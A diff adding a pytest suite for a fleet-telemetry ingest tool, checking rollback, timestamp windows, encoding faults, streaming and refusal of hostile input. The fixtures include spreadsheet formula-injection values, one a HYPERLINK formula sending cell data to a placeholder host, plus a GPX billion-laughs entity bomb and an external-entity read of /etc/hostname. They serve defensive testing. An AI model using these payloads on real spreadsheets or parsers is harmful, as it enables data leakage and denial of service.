@@ -1,0 +1,359 @@
+"""Ingest against hostile or broken input (issue 12): one transaction per command, implausible
+times, spreadsheet formulas in ids, stray bytes in UTF-8 files, malformed lines streamed,
+GPX with DTDs and large GPX files streamed."""
+import hashlib
+import json
+import sqlite3
+import tracemalloc
+from datetime import datetime, timezone
+
+import pytest
+
+from auditor.cli import main
+from auditor.errors import UserError
+from auditor.ingest.api import ingest_paths
+from auditor.ingest.readers import open_source
+
+HEADER = "vehicle_id,timestamp,lat,lon\n"
+
+
+def rows(project, sql, *params):
+    conn = sqlite3.connect(project)
+    try:
+        return conn.execute(sql, params).fetchall()
+    finally:
+        conn.close()
+
+
+def tables(project):
+    """Every table's full contents: 'nothing changed' compared row by row."""
+    conn = sqlite3.connect(project)
+    try:
+        names = [n for (n,) in conn.execute(
+            "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")]
+        return {n: conn.execute(f'SELECT * FROM "{n}" ORDER BY 1').fetchall() for n in names}
+    finally:
+        conn.close()
+
+
+def checkpointed_digest(project):
+    conn = sqlite3.connect(project)
+    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
+    conn.close()
+    return hashlib.sha256(project.read_bytes()).hexdigest()
+
+
+def track(vehicle, n=5, start=1_772_438_400, step=60, lat=41.8, lon=-87.6):
+    return "".join(f"{vehicle},{datetime.fromtimestamp(start + i * step, timezone.utc):%Y-%m-%dT%H:%M:%SZ},"
+                   f"{lat + i * 0.0005:.6f},{lon}\n" for i in range(n))
+
+
+# ------------------------------------------------------------------ one transaction per command
+@pytest.fixture
+def fleet(tmp_path):
+    """A project with vehicles v1 (Chicago) and v3 (no timezone) and pings of both."""
+    (tmp_path / "vehicles.csv").write_text("vehicle_id,timezone\nv1,America/Chicago\nv3,\n")
+    (tmp_path / "old.csv").write_text(HEADER + track("v1") + track("v3", lat=41.9))
+    project = tmp_path / "p.db"
+    ingest_paths(project, [tmp_path / "vehicles.csv"])
+    ingest_paths(project, [tmp_path / "old.csv"])
+    return project
+
+
+def test_a_failing_second_file_keeps_nothing_of_the_first(fleet, capsys):
+    d = fleet.parent
+    (d / "a.csv").write_text(HEADER + track("v1", start=1_772_600_000))
+    (d / "b.csv").write_text(HEADER + track("v3", start=1_772_600_000, lat=41.9))
+    before, digest = tables(fleet), checkpointed_digest(fleet)
+    code = main(["ingest", str(fleet), str(d / "a.csv"), str(d / "b.csv"), "--ignore-offset"])
+    err = capsys.readouterr().err.strip().splitlines()
+    assert code == 1 and len(err) == 1 and "b.csv" in err[0] and "v3 has no timezone" in err[0]
+    assert tables(fleet) == before  # a.csv's pings and its import row are gone too
+    assert checkpointed_digest(fleet) == digest
+
+
+def test_replace_is_all_or_nothing_across_files(fleet):
+    d = fleet.parent
+    (d / "a.csv").write_text(HEADER + track("v1", start=1_772_600_000))
+    (d / "b.csv").write_text(HEADER + track("v3", start=1_772_600_000, lat=41.9))
+    before = tables(fleet)
+    with pytest.raises(UserError, match="v3 has no timezone"):
+        ingest_paths(fleet, [d / "a.csv", d / "b.csv"], ignore_offset=True, replace=True)
+    assert tables(fleet) == before  # v1 was not replaced while v3 was not
+    # and with every vehicle fine, both files are replaced in the one command
+    [sa, sb] = ingest_paths(fleet, [d / "a.csv", d / "b.csv"], replace=True)
+    assert (sa["replaced_vehicles"], sb["replaced_vehicles"]) == (1, 1)
+    assert rows(fleet, "SELECT MIN(ts) FROM pings") == [(1_772_600_000,)]
+
+
+def test_a_new_project_is_not_left_behind_by_a_failing_later_file(tmp_path):
+    (tmp_path / "a.csv").write_text(HEADER + track("v1"))
+    # fine in its first rows, naive times only further down: found while importing
+    late = HEADER + track("v2", n=40) + "v2,2026-03-02 10:00:00,41.8,-87.6\n"
+    (tmp_path / "b.csv").write_text(late)
+    with pytest.raises(UserError, match="naive timestamps"):
+        ingest_paths(tmp_path / "new.db", [tmp_path / "a.csv", tmp_path / "b.csv"],
+                     chunk_rows=10)
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "b.csv"]
+
+
+def test_a_failing_import_removes_only_what_it_created(tmp_path):
+    """The file was there before the command (an empty file the user made, to be the project):
+    a failing import leaves it — only a file the call itself created is removed."""
+    (tmp_path / "a.csv").write_text(HEADER + track("v1"))
+    late = HEADER + track("v2", n=40) + "v2,2026-03-02 10:00:00,41.8,-87.6\n"
+    (tmp_path / "b.csv").write_text(late)
+    project = tmp_path / "mine.db"
+    project.write_bytes(b"")
+    with pytest.raises(UserError, match="naive timestamps"):
+        ingest_paths(project, [tmp_path / "a.csv", tmp_path / "b.csv"], chunk_rows=10)
+    assert project.is_file()
+    assert rows(project, "SELECT COUNT(*) FROM pings") == [(0,)]  # nothing of the import kept
+    # a project that exists is never removed either, nor are files beside a new one
+    (tmp_path / "new.db-notes.txt").write_text("mine")
+    with pytest.raises(UserError, match="naive timestamps"):
+        ingest_paths(tmp_path / "new.db", [tmp_path / "a.csv", tmp_path / "b.csv"], chunk_rows=10)
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "b.csv", "mine.db",
+                                                          "new.db-notes.txt"]
+
+
+def test_a_file_named_twice_in_one_command_is_imported_once(tmp_path):
+    (tmp_path / "a.csv").write_text(HEADER + track("v1"))
+    [first, again] = ingest_paths(tmp_path / "p.db", [tmp_path / "a.csv", tmp_path / "a.csv"])
+    assert first["accepted"] == 5 and again["skipped"] and again["import_id"] == first["import_id"]
+
+
+# ------------------------------------------------------------------ implausible timestamps
+def test_pings_outside_the_default_window_are_quarantined(tmp_path):
+    f = tmp_path / "p.csv"
+    f.write_text(HEADER + "v1,1500-06-01T10:00:00Z,41.8,-87.6\n"
+                 "v1,2026-03-02T10:00:00Z,41.8,-87.6\n"
+                 "v1,2600-01-01T00:00:00Z,41.8,-87.6\n"
+                 "v1,64060588800,41.8,-87.6\n"          # epoch seconds of the year 4000
+                 "v1,1999-12-31T23:59:59Z,41.8,-87.6\n"
+                 "v1,2000-01-01T00:00:00Z,41.8,-87.6\n")
+    [s] = ingest_paths(tmp_path / "p.db", [f])
+    assert s["reasons"] == {"implausible_timestamp": 4} and s["accepted"] == 2
+    assert [q[0] for q in rows(tmp_path / "p.db", "SELECT line FROM quarantine ORDER BY line")] \
+        == [2, 4, 5, 6]
+    # no vehicle spans more than the data it has: the year-4000 ping is not there to stretch it
+    span = datetime(2026, 3, 2, 10, tzinfo=timezone.utc) - datetime(2000, 1, 1, tzinfo=timezone.utc)
+    assert rows(tmp_path / "p.db", "SELECT MAX(ts) - MIN(ts) FROM pings") == [
+        (int(span.total_seconds()),)]
+
+
+def test_tomorrow_is_plausible_next_week_is_not(tmp_path):
+    now = int(datetime.now(timezone.utc).timestamp())
+    f = tmp_path / "p.csv"
+    f.write_text(HEADER + f"v1,{now + 3600},41.8,-87.6\nv1,{now + 7 * 86400},41.8,-87.6\n")
+    [s] = ingest_paths(tmp_path / "p.db", [f])
+    assert s["reasons"] == {"implausible_timestamp": 1} and s["accepted"] == 1
+
+
+def test_the_window_is_set_per_import_and_joins_the_options_key(tmp_path, capsys):
+    f = tmp_path / "p.csv"
+    f.write_text(HEADER + "v1,1995-05-01T10:00:00Z,41.8,-87.6\nv1,2026-03-02T10:00:00Z,41.8,-87.6\n")
+    project = tmp_path / "p.db"
+    assert main(["ingest", str(project), str(f), "--json"]) == 0
+    assert json.loads(capsys.readouterr().out)["reasons"] == {"implausible_timestamp": 1}
+    # an archive of the nineties: a wider window is a new import, not a no-op repeat
+    assert main(["ingest", str(project), str(f), "--min-time", "1990-01-01", "--json"]) == 0
+    out = json.loads(capsys.readouterr().out)
+    assert (out["skipped"], out["accepted"], out["reasons"]) == (False, 1, {"duplicate_ping": 1})
+    assert rows(project, "SELECT COUNT(*) FROM pings") == [(2,)]
+    key = json.loads(rows(project, "SELECT options_key FROM imports ORDER BY import_id DESC")[0][0])
+    assert key["min_time"] == 631152000
+    assert main(["ingest", str(project), str(f), "--max-time", "1990"]) == 1  # before min
+    assert "--min-time" in capsys.readouterr().err
+    assert main(["ingest", str(project), str(f), "--max-time", "soon"]) == 1
+    assert "--max-time soon: not a time" in capsys.readouterr().err
+
+
+def test_window_applies_to_times_ignore_offset_reads_again(fleet):
+    d = fleet.parent
+    # 2026-03-02T20:00 'UTC' is 2026-03-03T02:00 UTC once read as Chicago wall time
+    (d / "late.csv").write_text(HEADER + "v1,2026-03-02T20:00:00Z,41.8,-87.6\n")
+    [s] = ingest_paths(fleet, [d / "late.csv"], ignore_offset=True,
+                       max_time="2026-03-03T00:00:00Z")
+    assert s["reasons"] == {"implausible_timestamp": 1}
+
+
+# ------------------------------------------------------------------ spreadsheet formulas
+@pytest.mark.parametrize("value", ['=HYPERLINK("http://x.example/?"&A1,"x")', "+cmd", "@SUM(A1)",
+                                   "-2+3", "=1+1"])
+def test_formula_like_vehicle_ids_are_quarantined(tmp_path, value):
+    f = tmp_path / "p.csv"
+    quoted = '"' + value.replace('"', '""') + '"'
+    f.write_text(HEADER + f"{quoted},1772438400,41.8,-87.6\nv1,1772438400,41.8,-87.6\n"
+                 "-42,1772438400,41.8,-87.6\n")  # a plain number is no formula
+    [s] = ingest_paths(tmp_path / "p.db", [f])
+    assert s["reasons"] == {"formula_like_value": 1} and s["accepted"] == 2
+    assert rows(tmp_path / "p.db", "SELECT vehicle_id FROM pings ORDER BY 1") == [("-42",), ("v1",)]
+    assert rows(tmp_path / "p.db", "SELECT line, reason FROM quarantine") == [(2, "formula_like_value")]
+
+
+def test_formula_like_labels_vehicle_metadata_ids_and_trip_ids(tmp_path):
+    labels = tmp_path / "l.csv"
+    labels.write_text("vehicle_id,label,lat,lon\n@v1,home,41.8,-87.6\nv1,=home,41.8,-87.6\n"
+                      "v1,work,41.8,-87.6\n")
+    [s] = ingest_paths(tmp_path / "p.db", [labels])
+    assert s["reasons"] == {"formula_like_value": 2} and s["accepted"] == 1
+    vehicles = tmp_path / "v.csv"
+    vehicles.write_text("vehicle_id,fleet\n+v9,blue\nv1,red\n")
+    [s] = ingest_paths(tmp_path / "p.db", [vehicles])
+    assert s["reasons"] == {"formula_like_value": 1}
+    pings = tmp_path / "p.csv"
+    pings.write_text("vehicle_id,timestamp,lat,lon,trip_id\nv1,1772438400,41.8,-87.6,=t1\n"
+                     "v1,1772438460,41.8,-87.6,t2\n")
+    [s] = ingest_paths(tmp_path / "p.db", [pings])
+    assert s["reasons"] == {"formula_like_value": 1}
+
+
+# ------------------------------------------------------------------ encodings
+def test_a_stray_byte_quarantines_its_line_not_the_files_encoding(tmp_path):
+    body = [f"Müller-{i % 3},{1_772_438_400 + 60 * i},41.{8000 + i},-87.6\n" for i in range(30)]
+    data = (HEADER + "".join(body[:10])).encode() + b"M\xfcller-9,1772440000,41.8,-87.6\n" \
+        + "".join(body[10:]).encode()
+    f = tmp_path / "p.csv"
+    f.write_bytes(data)
+    for chunk_rows in (7, 1000):
+        project = tmp_path / f"p{chunk_rows}.db"
+        [s] = ingest_paths(project, [f], chunk_rows=chunk_rows)
+        assert (s["read"], s["accepted"], s["reasons"]) == (31, 30, {"bad_encoding": 1})
+        assert rows(project, "SELECT DISTINCT vehicle_id FROM pings ORDER BY 1") == [
+            ("Müller-0",), ("Müller-1",), ("Müller-2",)]  # UTF-8, not mojibake
+        assert rows(project, "SELECT line, raw, reason FROM quarantine") == [
+            (12, "M\ufffdller-9,1772440000,41.8,-87.6", "bad_encoding")]
+
+
+def test_bad_lines_malformed_lines_and_line_numbers_together(tmp_path):
+    lines = [HEADER.strip().encode()]
+    expect = []
+    for i in range(3000):
+        if i % 401 == 7:
+            lines.append(f"v{i % 5},{1_772_438_400 + 60 * i},41.8,-87.6,extra".encode())
+            expect.append((len(lines), "malformed_row"))
+        elif i % 503 == 11:
+            lines.append(f"caf\xe9-{i},{1_772_438_400 + 60 * i},41.8,-87.6".encode("latin-1"))
+            expect.append((len(lines), "bad_encoding"))
+        elif i % 97 == 3:
+            lines.append(b"")
+        else:
+            lines.append(f"café-{i % 5},{1_772_438_400 + 60 * i},41.{8000 + i % 700},-87.6"
+                         .encode())
+    f = tmp_path / "p.csv"
+    f.write_bytes(b"\r\n".join(lines) + b"\r\n")
+    [s] = ingest_paths(tmp_path / "p.db", [f], chunk_rows=250)
+    got = rows(tmp_path / "p.db", "SELECT line, reason FROM quarantine ORDER BY line")
+    assert got == expect
+    assert s["accepted"] + s["quarantined"] == s["read"]
+    assert rows(tmp_path / "p.db", "SELECT COUNT(*) FROM pings WHERE vehicle_id LIKE 'café-%'") \
+        == [(s["accepted"],)]
+
+
+def test_a_latin1_file_is_still_read_as_latin1(tmp_path):
+    f = tmp_path / "p.csv"
+    f.write_bytes((HEADER + "Köln-1,1772438400,50.9,6.9\nMünchen-2,1772438400,48.1,11.6\n")
+                  .encode("latin-1"))
+    [s] = ingest_paths(tmp_path / "p.db", [f])
+    assert s["accepted"] == 2
+    assert rows(tmp_path / "p.db", "SELECT vehicle_id FROM pings ORDER BY 1") == [
+        ("Köln-1",), ("München-2",)]
+
+
+# ------------------------------------------------------------------ malformed lines streamed
+def _held_by(snapshot, module: str) -> int:
+    """Bytes still allocated by code in ``module`` (e.g. the reader's copies of line text)."""
+    return sum(stat.size for stat in snapshot.statistics("filename")
+               if stat.traceback[0].filename.endswith(module))
+
+
+def test_malformed_lines_are_not_collected_for_the_whole_file(tmp_path):
+    """~40 MB of malformed lines: the reader hands them out with their chunk and forgets them."""
+    junk = "x" * 180
+    body = "".join(f"v1,{1_772_438_400 + i},41.8,-87.6,{junk}\n" if i % 2 else
+                   f"v1,{1_772_438_400 + i},41.8,-87.6\n" for i in range(400_000))
+    f = tmp_path / "p.csv"
+    f.write_text(HEADER + body)
+    source = open_source(f)
+    next(iter(source.chunks(10)))  # imports done before measuring
+    n_rejected, held = 0, []
+    tracemalloc.start()
+    try:
+        for i, chunk in enumerate(source.chunks(5_000)):
+            n_rejected += len(chunk.rejected)
+            if i in (10, 30):
+                del chunk
+                held.append(_held_by(tracemalloc.take_snapshot(), "readers.py"))
+    finally:
+        tracemalloc.stop()
+    assert n_rejected == 200_000
+    # a block's worth is pending at any time, not every malformed line seen so far (~13 and
+    # ~33 MB at those two points)
+    assert max(held) < 4 * 2**20, held
+
+
+# ------------------------------------------------------------------ GPX
+BOMB = """<?xml version="1.0"?>
+<!DOCTYPE gpx [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
+ <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
+<gpx version="1.1"><trk><name>&c;</name><trkseg>
+<trkpt lat="52.5" lon="13.4"><time>2024-01-01T10:00:00Z</time></trkpt></trkseg></trk></gpx>
+"""
+EXTERNAL = """<?xml version="1.0"?>
+<!DOCTYPE gpx [<!ENTITY secret SYSTEM "file:///etc/hostname">]>
+<gpx version="1.1"><trk><name>&secret;</name><trkseg>
+<trkpt lat="52.5" lon="13.4"><time>2024-01-01T10:00:00Z</time></trkpt></trkseg></trk></gpx>
+"""
+
+
+@pytest.mark.parametrize("text", [BOMB, EXTERNAL, BOMB.encode("utf-16").decode("latin-1")],
+                         ids=["entity-bomb", "external-entity", "utf-16"])
+def test_gpx_with_a_dtd_is_refused_and_the_project_untouched(tmp_path, text):
+    f = tmp_path / "evil.gpx"
+    f.write_bytes(text.encode("latin-1") if text.startswith("\xff") else text.encode())
+    project = tmp_path / "p.db"
+    ingest_paths(project, [_gpx(tmp_path / "ok.gpx", 3)])
+    digest = checkpointed_digest(project)
+    with pytest.raises(UserError, match="DOCTYPE or ENTITY|not a readable GPX"):
+        ingest_paths(project, [f])
+    assert checkpointed_digest(project) == digest
+
+
+def _gpx(path, n, name="truck-7", ns_prefix=""):
+    p = ns_prefix
+    pts = "".join(f'<{p}trkpt lat="{52.5 + i * 1e-4:.5f}" lon="13.4"><{p}time>'
+                  f"{datetime.fromtimestamp(1_704_103_200 + 5 * i, timezone.utc):%Y-%m-%dT%H:%M:%SZ}"
+                  f"</{p}time><{p}speed>{i % 20}.5</{p}speed></{p}trkpt>\n" for i in range(n))
+    xmlns = f'xmlns:{p[:-1]}="http://www.topografix.com/GPX/1/0"' if p else \
+        'xmlns="http://www.topografix.com/GPX/1/0"'
+    path.write_text(f'<?xml version="1.0" encoding="UTF-8"?>\n<{p}gpx version="1.0" {xmlns}>'
+                    f"<{p}trk><{p}name>{name}</{p}name><{p}trkseg>\n{pts}</{p}trkseg></{p}trk>"
+                    f"</{p}gpx>\n")
+    return path
+
+
+def test_large_gpx_is_streamed_in_chunks(tmp_path):
+    f = _gpx(tmp_path / "big.gpx", 60_000)
+    assert f.stat().st_size > 5 * 2**20
+    small = open_source(_gpx(tmp_path / "small.gpx", 3))
+    next(iter(small.chunks(10)))  # imports done before measuring
+    tracemalloc.start()
+    sizes = []
+    try:
+        for chunk in open_source(f).chunks(2_000):
+            sizes.append(chunk.table.num_rows)
+            assert chunk.lines[0] == sum(sizes[:-1]) + 1
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert sum(sizes) == 60_000 and max(sizes) == 2_000
+    assert peak < 3 * 2**20, peak  # the whole document would be far more
+
+
+def test_gpx_speed_and_prefixed_names(tmp_path):
+    f = _gpx(tmp_path / "pref.gpx", 4, name="van 1", ns_prefix="g:")
+    [s] = ingest_paths(tmp_path / "p.db", [f])
+    assert s["accepted"] == 4
+    assert rows(tmp_path / "p.db", "SELECT vehicle_id, speed_mps, trip_id FROM pings ORDER BY ts")[:2] \
+        == [("van 1", 0.5, "track1.segment1"), ("van 1", 1.5, "track1.segment1")]
